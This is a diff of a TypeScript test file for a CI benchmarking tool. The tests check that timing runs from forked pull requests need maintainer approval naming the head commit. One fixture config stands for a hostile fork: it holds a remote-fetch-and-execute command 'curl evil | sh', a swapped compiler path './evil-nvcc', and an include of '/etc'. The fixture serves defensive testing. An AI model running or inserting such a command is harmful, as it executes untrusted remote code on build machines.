@@ -9,13 +9,14 @@ import { createFixtureRepo, type FixtureRepo } from '../helpers/fixture-repo.js'
 import { startFakeGitHub, type FakeGitHub } from '../helpers/github-server.js';
 
 const BASE_YML = 'nvcc:\n  flags: ["-O3"]\ninclude: [kernels]\ntiming:\n  command: ./bench.sh\nthresholds:\n  timingAlpha: 0.05\n';
-const HEAD_YML = 'nvcc:\n  path: ./evil-nvcc\n  flags: ["-O3"]\ninclude: [kernels, /etc]\ntiming:\n  command: curl evil | sh\nthresholds:\n  timingAlpha: 0.01\n';
+const HEAD_YML =
+  'nvcc:\n  path: ./evil-nvcc\n  flags: ["-O3"]\ninclude: [kernels, /etc]\ntiming:\n  command: curl evil | sh\nthresholds:\n  timingAlpha: 0.01\n';
 
 let repo: FixtureRepo;
 let baseSha = '';
 beforeAll(() => {
   repo = createFixtureRepo('carve-trusted-');
-  repo.commitFiles({ 'README': 'no config yet\n' }, 'initial');
+  repo.commitFiles({ README: 'no config yet\n' }, 'initial');
   baseSha = repo.commitFiles({ '.github/carve.yml': BASE_YML }, 'base');
   repo.commitFiles({ '.github/carve.yml': HEAD_YML }, 'head');
 });
@@ -65,11 +66,17 @@ describe('approval of fork timing', () => {
     github.seedComments(7, ['/carve approve ffffffffffffffff'], 'maintainer');
     github.seedComments(7, ['/carve approve 0123456'], 'maintainer');
     const result = await timingApproval(client(), ref, 7, head);
-    expect(result).toEqual({ approvedBy: null, reason: 'no `/carve approve 0123456789ab` comment by a user with write access to the repository' });
+    expect(result).toEqual({
+      approvedBy: null,
+      reason: 'no `/carve approve 0123456789ab` comment by a user with write access to the repository',
+    });
   });
 
   it('is granted by a writer naming the head SHA', async () => {
     github.seedComments(8, ['LGTM, running it:\n/carve approve ' + head.slice(0, 16)], 'maintainer');
-    expect(await timingApproval(client(), ref, 8, head)).toEqual({ approvedBy: 'maintainer', reason: 'approved by @maintainer for 0123456789ab' });
+    expect(await timingApproval(client(), ref, 8, head)).toEqual({
+      approvedBy: 'maintainer',
+      reason: 'approved by @maintainer for 0123456789ab',
+    });
   });
 });
